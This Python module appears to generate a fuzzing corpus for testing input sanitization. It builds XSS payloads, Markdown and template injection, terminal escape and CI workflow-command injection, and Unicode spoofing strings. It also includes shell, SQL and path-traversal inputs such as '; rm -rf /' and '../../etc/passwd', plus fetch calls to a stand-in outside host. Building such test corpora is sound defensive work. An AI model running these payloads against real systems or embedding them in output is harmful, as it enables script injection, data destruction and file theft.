"""Words that try to act, of every class that is known to us: put together from parts, so that each meets each."""

# ruff: noqa: E501 - each input stands on one line

from collections.abc import Iterator
from itertools import product

ACTS = ("alert(1)", "window.acted=1", "fetch('https://other.example/')")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "a href=x",
    "math",
    "style",
    "marquee",
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "ONCLICK", "onbegin")
SCHEMES = ("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "\x01javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "javascript&colon;{}", "&#106;avascript:{}", "//other.example/{}")  # fmt: skip
BREAKOUTS = (
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "</q></li></ul>",
    "*/",
    "\\",
    "%22>",
    "\x00>",
)
WHOLE = (
    "<script>{}</script>", "<SCRIPT\n>{}</SCRIPT\n>", "<scr<script>ipt>{}</scr</script>ipt>", "<script src=https://other.example/a.js></script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data=javascript:{}></object>", "<embed src=javascript:{}>",
    "<base href=javascript:{}//>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=https://other.example/>",
    "<style>@import 'https://other.example/';</style>", "<form action=javascript:{}><button>x</button></form>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{} /><a id=x><text>x</text></a></svg>", "<svg><script>{}</script></svg>",
    "<a href='javascript:{}'>x</a>", "<x contenteditable onblur={}>x</x>", "<form id=body><input name=attributes></form>", "<a id=document name=cookie>",
    "<!--<img src='--><img src=x onerror={}>", "<![CDATA[<script>{}</script>]]>", "<?xml-stylesheet href='javascript:{}'?>", "<plaintext>", "<title>{}",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "\xbcscript\xbe{}\xbc/script\xbe", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script>{}&#60;/script>", "<scrıpt>{}</scrıpt>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:{})", "![x](https://other.example/a.png)", "[x][y]\n\n[y]: javascript:{}", "<javascript:{}>", "<https://other.example/>",
    "[x](<javascript:{}>)", "[x](data:text/html,{})", "# x\n## y", "    code", "- x\n- y", "1. x", "> x", "```\n{}\n```", "~~~\nx", "a | b\n--- | ---\nc | d",
    "*x* _y_ **z** __w__ `v`", "[^1]: x", "[^1]", "*[HTML]: x", "!!! note\n    x", "??? x", "===", "---\ntitle: x\n---", "title: x\nlayout: y\n\n", "...", "***",
    "{{ config }}", "{% raw %}{% include 'x' %}", "{# x", "{: onclick={} }", "{: #sources .class }", ":smile: ++x++ ~y~ ^z^ ==w==", '--8<-- "/etc/passwd"',
    "\\<script>{}</script>", "klzzwxh:0", "\x02klzzwxh:0\x03", "wzxhzdk:0", "[TOC]", "$x$ $$y$$", "[[x]]", "<div markdown=1>*x*</div>", "x  \ny", "\\", "&amp;lt;b&amp;gt;",
)  # fmt: skip
TEXT = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://other.example/\x1b\\x\x1b]8;;\x1b\\", "\x9b2J", "a\x08\x08\x08b", "a\rb", "a\x0bb\x0cc", "\x00", "\x7f\x85",
    "::error::stop", "::set-output name=a::b", "\n::warning::x", "##[command]x", "::stop-commands::x", "\u2028::error::x", "a%0A::error::x",
    "\u202egnp.exe", "\u2066x\u2069", "a\u200bb\u200cc\u200dd\ufeff", "\U000e0041\U000e0042", "z\u0335\u0336a\u0337l\u0338g\u0334o", "\ufff9x\ufffay\ufffb", "\u061cx", "\u115f\u3164",
    "\ud800", "a\udfffb", "\uffff", "=1+1|cmd", "@SUM(1)", "%s%n%x", "$(id)`id`", "; rm -rf /", "../../etc/passwd", "CON", '{"a": 1}', "'; DROP TABLE x;--", "!!python/object x",
    "&x; &#0; &#xD800; &#x110000; &nbsp;", "\r\nSubject: x\r\n\r\nx", "=?utf-8?B?PHNjcmlwdD4=?=", "BEGIN:VCARD", "\\u003cscript\\u003e", "</", "<", "<!", "&", "ＡＢＣ＜ｓｃｒｉｐｔ＞", "終わり。*強調*「引用」",
)  # fmt: skip


def strings() -> tuple[str, ...]:
    """Each once, in a fixed order."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    acts = [ACTS[n % len(ACTS)] for n in range(1000)]
    turn = iter(acts)
    yield from (one.replace("{}", next(turn), 1) for one in WHOLE)
    yield from (f"<{tag} {handler}={next(turn)}>" for tag, handler in product(TAGS, HANDLERS))
    yield from (f"{end}<img src=x onerror={next(turn)}>" for end in BREAKOUTS)
    yield from (f"x{end[0]} onmouseover={next(turn)} y={end[0]}" for end in BREAKOUTS)
    yield from (scheme.replace("{}", next(turn), 1) for scheme in SCHEMES)
    yield from (f"<a href='{scheme.replace('{}', next(turn), 1)}'>x</a>" for scheme in SCHEMES)
    yield from (one.replace("{}", next(turn), 1) for one in MARKDOWN)
    yield from TEXT
